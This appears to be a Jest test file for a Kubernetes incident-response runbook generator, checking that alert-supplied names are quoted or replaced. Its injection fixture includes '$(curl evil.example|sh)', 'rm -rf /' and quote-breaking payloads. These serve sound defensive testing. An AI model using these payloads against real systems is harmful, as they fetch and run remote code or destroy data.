import { execFileSync } from 'node:child_process';
import { CommandStep, commandArguments, containSteps, evidenceSteps, forensicsChecklist } from './commands';
import { RunbookContext, parseRunbookContext } from './context';

const NOW = Date.parse('2025-03-01T12:00:00Z');

function context(values: Record<string, string>): RunbookContext {
  return parseRunbookContext(new URLSearchParams(values), NOW);
}

function allSteps(values: Record<string, string>): CommandStep[] {
  const args = commandArguments(context(values));
  return [...evidenceSteps(args), ...containSteps(args), ...forensicsChecklist(args)];
}

function commands(values: Record<string, string>): string {
  return allSteps(values)
    .map((step) => step.command ?? '')
    .join('\n');
}

/** Parses a script with `sh -n`, which checks the syntax without running anything. */
function shellSyntaxOk(script: string): boolean {
  try {
    execFileSync('/bin/sh', ['-n', '-c', script], { stdio: 'pipe' });
    return true;
  } catch {
    return false;
  }
}

const CRAFTED = {
  substitution: '$(curl evil.example|sh)',
  backticks: '`id`',
  semicolon: 'web; rm -rf /',
  newline: 'web\nrm -rf /',
  quote: "web' ; id ; '",
  script: '<script>alert(1)</script>',
};

describe('commandArguments', () => {
  test('fills valid names in quotes', () => {
    const args = commandArguments(
      context({ namespace: 'prod', pod: 'web-1', node: 'node-1.internal', container: 'app' })
    );
    expect(args.namespace.word).toBe("'prod'");
    expect(args.pod.word).toBe("'web-1'");
    expect(args.node.word).toBe("'node-1.internal'");
    expect(args.nodeKnown).toBe(true);
    expect(args.warnings).toEqual([]);
  });

  test('uses placeholders without values', () => {
    const args = commandArguments(context({}));
    expect(args.namespace.word).toBe('<namespace>');
    expect(args.pod.word).toBe('<pod>');
    expect(args.user.word).toBe('<user>');
    expect(args.nodeKnown).toBe(false);
    expect(args.warnings).toEqual([]);
  });

  test.each(Object.entries(CRAFTED))('turns a crafted pod name (%s) into a placeholder', (_name, value) => {
    const args = commandArguments(context({ namespace: 'prod', pod: value }));
    expect(args.pod.word).toBe('<pod>');
    expect(args.warnings).toHaveLength(1);
    expect(args.warnings[0]).toContain('is not a valid Kubernetes pod name');
  });

  test.each(Object.entries(CRAFTED))('quotes a crafted user (%s) as one shell word', (_name, value) => {
    const args = commandArguments(context({ user: value }));
    const echoed = execFileSync('/bin/sh', ['-c', `printf %s ${args.user.word}`], { encoding: 'utf8' });
    expect(echoed).toBe(value);
  });
});

describe('runbook commands', () => {
  const valid = {
    namespace: 'prod',
    pod: 'web-1',
    container: 'app',
    node: 'node-1',
    user: 'system:serviceaccount:prod:default',
  };

  test('fill in the alert values', () => {
    const text = commands(valid);
    expect(text).toContain("kubectl logs -n 'prod' 'web-1' --all-containers");
    expect(text).toContain("kubectl cordon 'node-1'");
    expect(text).toContain("kubectl auth can-i --list --as 'system:serviceaccount:prod:default' -n 'prod'");
    expect(text).toContain("'https://node-1:10250/checkpoint/prod/web-1/app'");
  });

  test('are valid shell with real values', () => {
    for (const step of allSteps(valid)) {
      if (step.command) {
        expect(shellSyntaxOk(step.command)).toBe(true);
      }
    }
  });

  test('look up the node when the alert has none', () => {
    const text = commands({ namespace: 'prod', pod: 'web-1' });
    expect(text).toContain(`kubectl get pod -n 'prod' 'web-1' -o jsonpath='{.spec.nodeName}{"\\n"}'`);
    expect(text).toContain('kubectl cordon <node>');
  });

  test('capture evidence before containment', () => {
    const args = commandArguments(context(valid));
    const evidence = evidenceSteps(args).map((step) => step.id);
    expect(evidence).toEqual(['evidence-logs', 'evidence-manifest', 'evidence-digest']);
    const contain = containSteps(args).map((step) => step.id);
    expect(contain.indexOf('contain-scale')).toBe(contain.length - 1);
  });

  test('apply the NetworkPolicy from a quoted heredoc', () => {
    const policy = containSteps(commandArguments(context(valid))).find((step) => step.id === 'contain-network-policy')!;
    expect(policy.command).toContain("-f - <<'EOF'");
    expect(policy.command).toContain('policyTypes:\n    - Ingress\n    - Egress');
    expect(policy.command!.trimEnd().endsWith('EOF')).toBe(true);
  });

  test.each(Object.entries(CRAFTED))('never carry a crafted name (%s) into a command', (_name, value) => {
    const text = commands({ namespace: value, pod: value, container: value, node: value });
    expect(text).not.toContain('$(curl');
    expect(text).not.toContain('`id`');
    expect(text).not.toContain('<script>');
    expect(text).not.toContain('rm -rf');
    expect(text).not.toContain("' ; id ; '");
    expect(text).toContain('kubectl cordon <node>');
  });

  test.each(Object.entries(CRAFTED))('keep a crafted user (%s) inside its quotes', (_name, value) => {
    const step = forensicsChecklist(commandArguments(context({ user: value }))).find(
      (entry) => entry.id === 'forensics-actor'
    )!;
    // Replace the command with printf to see how the shell splits the arguments.
    const script = step.command!.replace('kubectl auth can-i --list --as', 'printf "[%s]"');
    const output = execFileSync('/bin/sh', ['-c', script.replace('<namespace>', "'<namespace>'")], {
      encoding: 'utf8',
    });
    expect(output).toBe(`[${value}][-n][<namespace>]`);
  });
});
